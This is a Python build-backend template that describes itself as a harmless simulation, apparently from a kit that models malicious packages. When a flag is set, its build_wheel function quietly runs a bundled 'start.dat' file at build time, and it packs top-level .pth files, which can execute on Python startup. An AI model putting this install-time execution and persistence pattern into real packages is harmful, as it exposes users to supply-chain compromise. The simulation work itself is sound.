"""A build backend of its own, so that pip needs nothing from an index. Harmless simulation. Not malware."""

import base64, hashlib, os, runpy, zipfile

MODULE, NAME, ACTS = "__MODULE__", "__NAME__", __ACTS__


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    if ACTS:
        runpy.run_path(os.path.join(MODULE, "start.dat"))
    info, name = MODULE + "-1.0.0.dist-info", MODULE + "-1.0.0-py3-none-any.whl"
    files = {os.path.join(MODULE, f): os.path.join(MODULE, f) for f in sorted(os.listdir(MODULE)) if "." in f}
    files |= {f: f for f in os.listdir(".") if f.endswith(".pth")}
    rows = []
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as archive:

        def put(path, data):
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
            archive.writestr(path, data)
            rows.append("%s,sha256=%s,%d" % (path, digest, len(data)))

        for target, path in files.items():
            with open(path, "rb") as file:
                put(target, file.read())
        put(info + "/METADATA", ("Metadata-Version: 2.1\nName: %s\nVersion: 1.0.0\n" % NAME).encode())
        put(
            info + "/WHEEL",
            b"Wheel-Version: 1.0\nGenerator: simulation\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        )
        archive.writestr(info + "/RECORD", "\n".join([*rows, info + "/RECORD,,"]) + "\n")
    return name
